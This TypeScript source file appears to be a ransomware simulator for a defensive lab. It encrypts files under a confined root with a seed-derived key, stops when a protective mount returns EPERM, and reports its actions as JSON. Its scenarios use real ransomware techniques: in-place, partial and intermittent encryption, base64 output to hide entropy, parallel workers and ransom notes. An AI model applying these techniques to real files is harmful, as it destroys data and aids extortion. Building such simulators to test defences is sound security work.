/**
 * Ransomware simulator. Runs as its own process (ransomware-cli.ts) against a directory tree,
 * encrypting for real with node:crypto (AES-256-CTR, key and IVs derived from the seed), every
 * file operation going through SafeFs (confined to --root). It stops at the first EPERM (the
 * mount's enforcement) and reports what it did as JSON.
 */
import { createCipheriv, createHash } from 'node:crypto';
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { PathRefused, SafeFs } from './safe-fs.js';
import { rng } from './victims.js';

export interface RansomScenario {
  name: string;
  family: string;
  description: string;
  mode: 'inplace' | 'copy-delete' | 'rename-first' | 'partial' | 'intermittent' | 'base64';
  order?: 'dfs' | 'bfs' | 'shuffled' | 'largest-first';
  /** Pause between files, ms. */
  delayMs?: number;
  workers?: number;
  notes?: boolean;
  /** New extension: fixed string, or 'random' (a new random one per file). */
  ext?: string | 'random';
}

export const RANSOM_SCENARIOS: readonly RansomScenario[] = [
  { name: 'inplace', family: 'overwrite', mode: 'inplace', description: 'read each file, overwrite it in place with AES-256-CTR ciphertext (same size)' },
  { name: 'copy-delete', family: 'copy-delete', mode: 'copy-delete', ext: '.enc', description: 'write the ciphertext to <name>.enc, then delete the original' },
  { name: 'rename-encrypt', family: 'rename', mode: 'rename-first', ext: '.locked', description: 'rename to <name>.locked first, then overwrite it in place' },
  { name: 'partial-4k', family: 'partial', mode: 'partial', description: 'encrypt only the first 4 KiB of each file in place' },
  { name: 'intermittent', family: 'partial', mode: 'intermittent', description: 'encrypt every 4th 4 KiB block in place (blocks 0, 4, 8, ...)' },
  { name: 'base64', family: 'encoded', mode: 'base64', description: 'replace each file (O_TRUNC) with base64 of its ciphertext, hiding entropy (~6 bits/byte)' },
  { name: 'slow', family: 'slow', mode: 'inplace', delayMs: 2000, description: 'in place, one file every ~2 s (--delay-ms)' },
  { name: 'multiproc', family: 'multi-process', mode: 'inplace', workers: 4, description: '4 worker child processes, each encrypting its share in place' },
  { name: 'notes', family: 'notes', mode: 'inplace', notes: true, description: 'drop README_RESTORE_FILES.txt in every directory, then encrypt in place' },
  { name: 'random-ext', family: 'copy-delete', mode: 'copy-delete', ext: 'random', description: 'copy-and-delete with a new random 5-letter extension per file' },
  { name: 'order-bfs', family: 'traversal', mode: 'inplace', order: 'bfs', description: 'in place, breadth-first traversal' },
  { name: 'order-shuffled', family: 'traversal', mode: 'inplace', order: 'shuffled', description: 'in place, random file order' },
  { name: 'order-largest', family: 'traversal', mode: 'inplace', order: 'largest-first', description: 'in place, largest files first' },
];

export function ransomScenario(name: string): RansomScenario | undefined {
  return RANSOM_SCENARIOS.find((s) => s.name === name);
}

export interface AttackReport {
  scenario: string;
  pid: number;
  pids: number[];
  /** Files whose encryption was started. */
  attempted: number;
  /** Files fully encrypted (and, for copy-delete, the original removed). */
  encrypted: number;
  notes: number;
  stoppedBy: 'EPERM' | 'done' | 'error';
  error?: string;
  refused: string[];
  /** Relative paths of files touched, in order. */
  touched: string[];
  startedMs: number;
  endedMs: number;
  firstDeniedMs: number | null;
}

const BLOCK = 4096;
const CHUNK = 64 * 1024;

/** All regular files under dir, in the given order (paths relative to root). */
export function listFiles(safe: SafeFs, dir: string, order: RansomScenario['order'], seed: number): string[] {
  const files: { rel: string; size: number; depth: number }[] = [];
  const walk = (abs: string, depth: number): void => {
    const entries = fs.readdirSync(abs, { withFileTypes: true }).sort((a, b) => a.name.localeCompare(b.name));
    for (const e of entries) {
      const p = path.join(abs, e.name);
      if (e.isDirectory()) walk(p, depth + 1);
      else if (e.isFile() || e.isSymbolicLink()) {
        let size = 0;
        try {
          size = fs.statSync(p).size;
        } catch {
          // dangling link: still listed, SafeFs decides
        }
        files.push({ rel: path.relative(safe.root, p), size, depth });
      }
    }
  };
  walk(dir, 0);
  if (order === 'bfs') files.sort((a, b) => a.depth - b.depth || a.rel.localeCompare(b.rel));
  else if (order === 'largest-first') files.sort((a, b) => b.size - a.size || a.rel.localeCompare(b.rel));
  else if (order === 'shuffled') {
    const r = rng(seed ^ 0x5bd1e995);
    for (let i = files.length - 1; i > 0; i--) {
      const j = Math.floor(r() * (i + 1));
      [files[i], files[j]] = [files[j] as (typeof files)[number], files[i] as (typeof files)[number]];
    }
  }
  return files.map((f) => f.rel);
}

function keyFor(seed: number): Buffer {
  return createHash('sha256').update(`sentinel-lab-key-${seed}`).digest();
}

function ivFor(seed: number, rel: string): Buffer {
  return createHash('sha256').update(`${seed}:${rel}`).digest().subarray(0, 16);
}

function encrypt(seed: number, rel: string, data: Buffer): Buffer {
  const c = createCipheriv('aes-256-ctr', keyFor(seed), ivFor(seed, rel));
  return Buffer.concat([c.update(data), c.final()]);
}

const sleepSync = (ms: number): void => {
  if (ms > 0) Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, ms);
};

function isEperm(err: unknown): boolean {
  const code = (err as NodeJS.ErrnoException).code;
  return code === 'EPERM' || code === 'EACCES';
}

const NOTE = 'YOUR FILES HAVE BEEN ENCRYPTED (Sentinel lab simulation).\nThis is a test; the key is derived from the lab seed.\n';

/** Encrypts `files` (relative to safe.root) according to the scenario; stops on the first EPERM. */
export function encryptFiles(safe: SafeFs, s: RansomScenario, files: string[], seed: number, delayMs: number): AttackReport {
  const rep: AttackReport = {
    scenario: s.name, pid: process.pid, pids: [process.pid], attempted: 0, encrypted: 0, notes: 0,
    stoppedBy: 'done', refused: [], touched: [], startedMs: Date.now(), endedMs: 0, firstDeniedMs: null,
  };
  const r = rng(seed ^ 0x1234567);
  const noted = new Set<string>();
  const newName = (rel: string): string => {
    if (s.ext === 'random') return rel + '.' + Array.from({ length: 5 }, () => String.fromCharCode(97 + Math.floor(r() * 26))).join('');
    return rel + (s.ext ?? '.enc');
  };
  try {
    for (const [k, rel] of files.entries()) {
      if (k > 0) sleepSync(delayMs);
      try {
        safe.check(rel);
      } catch (err) {
        if (err instanceof PathRefused) {
          rep.refused.push(rel);
          continue;
        }
        throw err;
      }
      if (s.notes) {
        const dir = path.dirname(rel);
        if (!noted.has(dir)) {
          noted.add(dir);
          safe.writeFile(path.join(dir, 'README_RESTORE_FILES.txt'), NOTE);
          rep.notes++;
        }
      }
      rep.attempted++;
      rep.touched.push(rel);
      const plain = safe.readFile(rel);
      const cipher = encrypt(seed, rel, plain);
      switch (s.mode) {
        case 'inplace':
        case 'rename-first': {
          let target = rel;
          if (s.mode === 'rename-first') {
            target = newName(rel);
            safe.rename(rel, target);
          }
          const fd = safe.openForUpdate(target);
          try {
            for (let off = 0; off < cipher.length; off += CHUNK) safe.writeAt(fd, target, cipher.subarray(off, off + CHUNK), off);
          } finally {
            fs.closeSync(fd);
          }
          break;
        }
        case 'partial': {
          const fd = safe.openForUpdate(rel);
          try {
            safe.writeAt(fd, rel, cipher.subarray(0, BLOCK), 0);
          } finally {
            fs.closeSync(fd);
          }
          break;
        }
        case 'intermittent': {
          const fd = safe.openForUpdate(rel);
          try {
            for (let off = 0; off < cipher.length; off += 4 * BLOCK) safe.writeAt(fd, rel, cipher.subarray(off, off + BLOCK), off);
          } finally {
            fs.closeSync(fd);
          }
          break;
        }
        case 'base64':
          safe.writeFile(rel, cipher.toString('base64'));
          break;
        case 'copy-delete': {
          const target = newName(rel);
          safe.writeFile(target, cipher);
          safe.unlink(rel);
          break;
        }
      }
      rep.encrypted++;
    }
  } catch (err) {
    if (isEperm(err)) {
      rep.stoppedBy = 'EPERM';
      rep.firstDeniedMs = Date.now();
    } else {
      rep.stoppedBy = 'error';
      rep.error = (err as Error).message;
    }
  }
  rep.endedMs = Date.now();
  return rep;
}

export interface AttackOptions {
  root: string;
  scenario: RansomScenario;
  seed: number;
  /** Directory to encrypt (default <root>/victims); must be inside root. */
  victims?: string;
  delayMs?: number;
  workers?: number;
}

const HERE = fileURLToPath(import.meta.url);
/** Worker entry point: the compiled CLI beside this file (or under dist/ when run from the .ts source). */
const CLI_JS = HERE.endsWith('.ts') ? HERE.replace(/src\/lab\/ransomware\.ts$/, 'dist/src/lab/ransomware-cli.js') : path.join(path.dirname(HERE), 'ransomware-cli.js');

/** Runs the attack in this process, or with workers as child processes (multi-process). */
export async function runAttack(o: AttackOptions): Promise<AttackReport> {
  const safe = new SafeFs(o.root);
  const victims = safe.check(o.victims ?? 'victims');
  const files = listFiles(safe, victims, o.scenario.order, o.seed);
  const delayMs = o.delayMs ?? o.scenario.delayMs ?? 0;
  const workers = o.workers ?? o.scenario.workers ?? 1;
  if (workers <= 1) return encryptFiles(safe, o.scenario, files, o.seed, delayMs);
  const startedMs = Date.now();
  const shares: string[][] = Array.from({ length: workers }, () => []);
  files.forEach((f, i) => shares[i % workers]?.push(f));
  const reports = await Promise.all(shares.map((share) => new Promise<AttackReport>((resolve, reject) => {
    const child = spawn(process.execPath, [CLI_JS, '--worker', '--root', safe.root, '--scenario', o.scenario.name, '--seed', String(o.seed), '--delay-ms', String(delayMs)], { stdio: ['pipe', 'pipe', 'inherit'] });
    let out = '';
    child.stdout.on('data', (d: Buffer) => (out += d.toString()));
    child.on('error', reject);
    child.on('close', () => {
      try {
        resolve(JSON.parse(out) as AttackReport);
      } catch {
        reject(new Error(`worker ${child.pid} printed no report: ${out.slice(0, 200)}`));
      }
    });
    child.stdin.end(JSON.stringify(share));
  })));
  const denied = reports.map((x) => x.firstDeniedMs).filter((x): x is number => x !== null);
  return {
    scenario: o.scenario.name,
    pid: process.pid,
    pids: [process.pid, ...reports.map((x) => x.pid)],
    attempted: reports.reduce((a, x) => a + x.attempted, 0),
    encrypted: reports.reduce((a, x) => a + x.encrypted, 0),
    notes: reports.reduce((a, x) => a + x.notes, 0),
    stoppedBy: reports.some((x) => x.stoppedBy === 'EPERM') ? 'EPERM' : reports.some((x) => x.stoppedBy === 'error') ? 'error' : 'done',
    ...(reports.find((x) => x.error) ? { error: reports.find((x) => x.error)?.error } : {}),
    refused: reports.flatMap((x) => x.refused),
    touched: reports.flatMap((x) => x.touched),
    startedMs,
    endedMs: Date.now(),
    firstDeniedMs: denied.length > 0 ? Math.min(...denied) : null,
  };
}
